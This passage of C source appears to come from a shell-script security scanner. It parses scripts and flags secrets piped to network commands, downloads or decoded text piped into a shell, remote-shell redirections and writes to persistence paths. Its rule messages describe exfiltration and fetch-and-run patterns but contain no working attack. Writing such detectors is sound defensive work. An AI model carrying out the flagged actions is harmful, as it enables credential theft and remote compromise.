		strong(x, "AL220", cmd, "%s runs a package fetched from a URL", c->name);
	if (f & F_SINK)
		judge_sink(x, cmd, c, f);
	if ((f & F_SRC) && !(f & F_SINK) && !x->have_source) {
		x->have_source = true;
		x->lone_source = cmd;
	}
	judge_eval(x, cmd, c, f);
	judge_remote_shell(x, cmd, c);
	judge_destructive(x, cmd, c);
	judge_persistence(x, cmd, c);
	judge_inner_code(x, cmd, c, f);
	free(c);
}

static void judge_pipeline(struct ctx *x, TSNode pipe)
{
	unsigned int before = 0;
	struct ts_kids it;
	TSNode el;

	al_ts_kids_begin(&it, pipe);
	while (x->error == 0 && al_ts_kids_next(&it, &el)) {
		unsigned int f = facts_of(x, el);

		if ((f & F_SINK) && (before & F_SRC))
			strong(x, "AL210", pipe, "%s piped into a network command",
			       (before & F_SRC & ~F_SRC_DATA) ? "a secret is"
							      : "a database dump is");
		if ((f & F_EXEC_IN) && (before & F_DOWNLOAD))
			strong(x, "AL220", pipe, "a download is piped into %s", "a shell");
		else if ((f & F_EXEC_IN) && (before & F_DECODE))
			strong(x, "AL221", pipe, "decoded text is piped into %s", "a shell");
		before |= f;
	}
	al_ts_kids_end(&it);
}

static void judge_redirected(struct ctx *x, TSNode st)
{
	TSNode kids[LIMIT_SHELL_CHILDREN];
	const char *fields[LIMIT_SHELL_CHILDREN];
	uint32_t n = children(st, kids, fields);
	TSNode body = ts_node_child_by_field_name(st, "body", 4);
	unsigned int bf = ts_node_is_null(body) ? 0 : facts_of(x, body);

	for (uint32_t i = 0; i < n; i++) {
		TSNode r = kids[i];
		const char *field = fields[i];
		unsigned int rf;
		TSNode dest;
		char d[LIMIT_SHELL_ARG_BYTES];
		bool input;

		if (!field || strcmp(field, "redirect") != 0 || !al_ts_is(r, "file_redirect"))
			continue;
		rf = redirect_facts(x, r);
		dest = ts_node_child_by_field_name(r, "destination", 11);
		if (ts_node_is_null(dest))
			continue;
		flat(x, dest, d, sizeof(d));
		input = ts_node_child_count(r) > 0 && al_ts_is(ts_node_child(r, 0), "<");
		if ((rf & F_SINK_RAW) && (bf & F_SHELL))
			strong(x, "AL230", st, "a shell's input and output go to %s", d);
		else if ((rf & F_SINK_RAW) && (bf & F_SRC))
			strong(x, "AL210", st, "a secret is written to %s", d);
		else if (rf & F_SINK_RAW) {
			x->have_sink = true;
			x->lone_sink = st;
			x->lone_sink_sev = AIRLOCK_SEVERITY_MEDIUM;
		}
		if ((rf & F_SRC_CRED) && (bf & F_SINK))
			strong(x, "AL210", st, "%s is sent to the network", d);
		if (!input && !(rf & F_SINK_RAW) && al_shell_persistence_path(d))
			report(x, "AL231", 0, st, "writes %s", d);
	}
}

/* --- the first pass: what holds a secret ---------------------------------------- */

static void note_download(struct ctx *x, TSNode v)
{
	struct command *c = malloc(sizeof(*c));
	const char *f;

	if (!c) {
		x->error = al_error_oom();
		return;
	}
	command_read(x, v, c);
	if ((f = download_target(c)))
		note(x->fetched, &x->nfetched, f);
	free(c);
}

static void note_secrets(struct ctx *x, TSNode v)
{
	if (al_ts_is(v, "command")) {
		note_download(x, v);
	} else if (al_ts_is(v, "variable_assignment")) {
		TSNode name = ts_node_child_by_field_name(v, "name", 4);
		TSNode value = ts_node_child_by_field_name(v, "value", 5);
		char var[64];

		if (!ts_node_is_null(name) && !ts_node_is_null(value) &&
		    ((facts_of(x, value) & F_SRC) || expands_secret(x, value, var, sizeof(var))) &&
		    x->ntainted < LIMIT_SHELL_NOTES) {
			flat(x, name, x->tainted[x->ntainted], sizeof(x->tainted[0]));
			x->ntainted++;
		}
	} else if (al_ts_is(v, "redirected_statement")) {
		TSNode body = ts_node_child_by_field_name(v, "body", 4), r;
		struct ts_kids it;

		unsigned int bf = ts_node_is_null(body) ? 0 : facts_of(x, body);

		if (!(bf & (F_SRC | F_DOWNLOAD)))
			return;
		al_ts_kids_begin(&it, v);
		while (al_ts_kids_next(&it, &r)) {
			TSNode dest = al_ts_is(r, "file_redirect")
					      ? ts_node_child_by_field_name(r, "destination", 11)
					      : r;
			char d[LIMIT_SHELL_ARG_BYTES];

			if (al_ts_is(r, "file_redirect") && !ts_node_is_null(dest)) {
				flat(x, dest, d, sizeof(d));
				if (bf & F_SRC)
					note(x->tmpfiles, &x->ntmp, d);
				else
					note(x->fetched, &x->nfetched, d);
			}
		}
		al_ts_kids_end(&it);
	}
}

/* --- walking ------------------------------------------------------------------ */

static TSNode first_error(TSNode root)
{
	TSTreeCursor cur = ts_tree_cursor_new(root);
	TSNode found = root;

	for (;;) {
		TSNode v = ts_tree_cursor_current_node(&cur);

		/* An ERROR node can span every statement before the token that
		 * broke the parse: that token is its last child. */
		if (ts_node_is_missing(v) || al_ts_is(v, "ERROR")) {
			uint32_t n = ts_node_child_count(v);

			found = n ? ts_node_child(v, n - 1) : v;
			break;
		}
		if (!al_ts_cursor_next(&cur, ts_node_has_error(v)))
			break;
	}
	ts_tree_cursor_delete(&cur);
	return found;
}

/* Calls fn on every node (pre-order); false when the node budget ran out. */
static bool walk(struct ctx *x, TSNode root, void (*fn)(struct ctx *, TSNode))
{
	TSTreeCursor cur = ts_tree_cursor_new(root);
	bool ok = true;

	for (;;) {
		if (++x->nodes > LIMIT_TREE_NODES) {
			ok = false;
			break;
		}
		fn(x, ts_tree_cursor_current_node(&cur));
		if (x->error < 0 || x->spent)
			break;
		if (!al_ts_cursor_next(&cur, true))
			break;
	}
	ts_tree_cursor_delete(&cur);
	return ok;
}

static void judge(struct ctx *x, TSNode v)
{
	if (al_ts_is(v, "command"))
		judge_command(x, v);
	else if (al_ts_is(v, "pipeline"))
		judge_pipeline(x, v);
	else if (al_ts_is(v, "redirected_statement"))
		judge_redirected(x, v);
}

/* The code of `sh -c CODE` without its quotes, each byte mapped to the file. */
static void scan_inner(struct ctx *x, const struct command *c, int i)
{
	TSNode arg = c->args[i];
	size_t len, o = 0, start = ts_node_start_byte(arg);
	const char *s = ts_text(arg, x->c->code, &len);
	char *code = malloc(len + 1);
	size_t *map = malloc((len + 1) * sizeof(*map));
	struct shell_code inner = *x->c;
	char q = 0;
	int error;

	if (!code || !map) {
		x->error = al_error_oom();
		goto out;
	}
	for (size_t k = 0; k < len; k++) {
		char ch = s[k];

		if (q == 0 && (ch == '\'' || ch == '"')) {
			q = ch;
			continue;
		}
		if (q && ch == q) {
			q = 0;
			continue;
		}
		if (ch == '\\' && q != '\'' && k + 1 < len &&
		    (q == 0 || strchr("\"\\$`\n", s[k + 1])))
			ch = s[++k];
		map[o] = origin(x, start + k);
		code[o++] = ch;
	}
	inner.code = code;
	inner.len = o;
	inner.map = map;
	inner.depth = x->c->depth + 1;
	if ((error = al_shell_scan(x->fs, x->ps, x->in, &inner)) < 0)
		x->error = error;
out:
	free(code);
	free(map);
}

int al_shell_scan(struct findings *fs, struct ts_parsers *ps, const struct scan_input *in,
		  const struct shell_code *c)
{
	struct ctx *x = calloc(1, sizeof(*x));
	TSTree *tree = NULL;
	TSNode root;
	int error;

	if (!x)
		return al_error_oom();
	x->fs = fs;
	x->ps = ps;
	x->in = in;
	x->c = c;
	if (c->depth > LIMIT_SHELL_NESTING) {
		report(x, "AL203", 0, (TSNode){ 0 }, "sh -c nested more than %d deep",
		       LIMIT_SHELL_NESTING);
		error = x->error;
		goto out;
	}
	if ((error = al_ts_parse(&tree, ps, TS_BASH, c->code, c->len)) < 0)
		goto out;
	if (error == 1) {
		report(x, "AL203", 0, (TSNode){ 0 }, "over the parse limits (%u bytes, %u ms)",
		       LIMIT_PARSE_BYTES, LIMIT_PARSE_MICROS / 1000);
		error = x->error;
		goto out;
	}
	if (error == 2) {
		report(x, "AL203", 0, (TSNode){ 0 },
		       "nested more than %u deep (brackets, quotes, substitutions, compound commands) or more than %u comment lines, not parsed",
		       LIMIT_PARSE_NESTING, LIMIT_PARSE_COMMENTS);
		error = x->error;
		goto out;
	}
	root = ts_tree_root_node(tree);
	if (ts_node_has_error(root))
		report(x, "AL201", 0, first_error(root), "%s", "");
	if (!walk(x, root, note_secrets) || !walk(x, root, judge))
		report(x, "AL203", 0, root, "more than %u syntax nodes", LIMIT_TREE_NODES);
	else if (x->spent)
		report(x, "AL203", 0, root, "nested too deeply to analyse (over %u steps)",
		       LIMIT_SHELL_STEPS);
	if (!x->strong && x->have_sink)
		report(x, "AL211", x->lone_sink_sev, x->lone_sink, "%s", "");
	if (!x->strong && x->have_source)
		report(x, "AL202", 0, x->lone_source, "%s", "");
	error = x->error;
out:
	if (tree)
		ts_tree_delete(tree);
	free(x);
	return error;
}
